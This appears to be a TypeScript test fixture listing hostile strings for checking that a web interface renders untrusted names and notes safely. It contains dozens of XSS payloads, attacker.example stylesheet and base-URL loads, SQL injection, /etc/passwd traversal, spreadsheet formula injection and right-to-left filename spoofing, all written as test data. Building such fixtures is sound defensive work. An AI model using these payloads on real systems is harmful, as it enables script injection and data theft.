/**
 * Texts that a stranger can write into names, notes, manifests, settings and file names. Shown on a page, none of them
 * may run, load anything, break the layout or change the direction of what is beside it. A text that runs would call
 * `hostileTextRan`, which the tests define and expect to stay uncalled.
 */

const RAN = 'hostileTextRan()';
const repeat = (text: string, count: number): string => text.repeat(count);

const markup = [
  `<script>${RAN}</script>`,
  `<SCRIPT SRC=data:text/javascript,${RAN}></SCRIPT>`,
  `<scr<script>ipt>${RAN}</scr</script>ipt>`,
  `"><script>${RAN}</script>`,
  `'><script>${RAN}</script>`,
  `</script><script>${RAN}</script>`,
  `</title><script>${RAN}</script>`,
  `</textarea><script>${RAN}</script>`,
  `</style><script>${RAN}</script>`,
  `--><script>${RAN}</script><!--`,
  `]]><script>${RAN}</script>`,
  `<img src=x onerror=${RAN}>`,
  `<img src=x onerror="${RAN}"//`,
  `<img/src=x/onerror=${RAN}>`,
  `<img srcset=x onerror=${RAN}>`,
  `<svg onload=${RAN}>`,
  `<svg><script>${RAN}</script></svg>`,
  `<svg><animate onbegin=${RAN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RAN}"><text x=20 y=20>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RAN}>`,
  `<iframe src="javascript:${RAN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RAN}</script>"></iframe>`,
  `<object data="data:text/html,<script>${RAN}</script>"></object>`,
  `<embed src="data:text/html,<script>${RAN}</script>">`,
  `<a href="javascript:${RAN}">x</a>`,
  `<a href="java&#10;script:${RAN}">x</a>`,
  `<form action="javascript:${RAN}"><button autofocus>x</button></form>`,
  `<button onclick=${RAN} autofocus onfocus=${RAN}>x</button>`,
  `<input autofocus onfocus=${RAN}>`,
  `<details open ontoggle=${RAN}><summary>x</summary></details>`,
  `<video><source onerror=${RAN}></video>`,
  `<body onload=${RAN}>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RAN}">`,
  `<base href="https://attacker.example/">`,
  `<link rel=stylesheet href="https://attacker.example/x.css">`,
  `<style>@import 'https://attacker.example/x.css';</style>`,
  `<style>*{display:none!important}</style>`,
  `<div style="position:fixed;inset:0;z-index:9999;background:red">x</div>`,
  `<template><script>${RAN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RAN}>">`,
  `<b>bold</b>&lt;script&gt;${RAN}&lt;/script&gt;`,
  `&#x3C;img src=x onerror=${RAN}&#x3E;`,
] as const;

const code = [
  `javascript:${RAN}`,
  `JaVaScRiPt:${RAN}`,
  `data:text/html,<script>${RAN}</script>`,
  `vbscript:${RAN}`,
  `';${RAN};//`,
  `";${RAN};//`,
  '${' + RAN + '}',
  '{{constructor.constructor("' + RAN + '")()}}',
  '{count, plural, =0 {x} other {#}}',
  '<0>{name}</0>',
  '__proto__',
  'constructor',
  `toString`,
  `'; DROP TABLE releases; --`,
  '../../../../etc/passwd',
  '..%2f..%2fsession%2fsign-out',
  'https://attacker.example/?q=',
  '//attacker.example',
  '=HYPERLINK("https://attacker.example","x")',
  "@SUM(1+9)*cmd|' /C calc'!A0",
] as const;

/** Marks that reorder the text, invisible characters, stacked marks and very long words. */
const layout = [
  '\u202Egpj.exe\u202C',
  '\u202E\u202D\u202B\u202A',
  '\u2066\u2067\u2068 never closed',
  'acme\u200B\u200C\u200D\u2060\uFEFF.invoices',
  '\u200F\u200E\u061C',
  'rtl \u05D0\u05D1\u05D2 \u0641\u0627\u06A9\u062A\u0648\u0631 (12) [3] {4} <5>',
  '\u0641\u0627\u06A9\u062A\u0648\u0631\u0647\u0627\u06CC \u0622\u06A9\u0645\u0647 \u2013 v1.2.3 (beta) \u06F1\u06F2\u06F3 / 456',
  `Z\u0351\u0352\u0353${repeat('\u0316\u0317\u0318\u0319', 60)}algo`,
  repeat('W', 300),
  repeat('\u0645', 300),
  repeat('\uFDFA', 40),
  repeat('\u{1F469}\u200D\u{1F469}\u200D\u{1F467}', 40),
  `a${repeat('\u00A0', 200)}b`,
  repeat('https://a.example/', 20),
  'line\u2028separator\u2029paragraph',
  '\u0085\u000Bvertical',
  '\uFFFD\uFFFE\u{10FFFF}',
] as const;

/** One line each, at most 400 characters; a field that allows fewer gets the beginning. */
export const hostileTexts: readonly string[] = [...markup, ...code, ...layout];

/** A text of `length` characters made from all of the above, for long fields. */
export function hostileNote(length: number): string {
  const all = hostileTexts.join('\n');
  return all.repeat(Math.ceil(length / all.length)).slice(0, length);
}

/** The text without what `isAllowed` refuses, for a field that accepts fewer characters. */
export function onlyAllowed(text: string, isAllowed: (character: string) => boolean): string {
  return [...text].filter(isAllowed).join('');
}
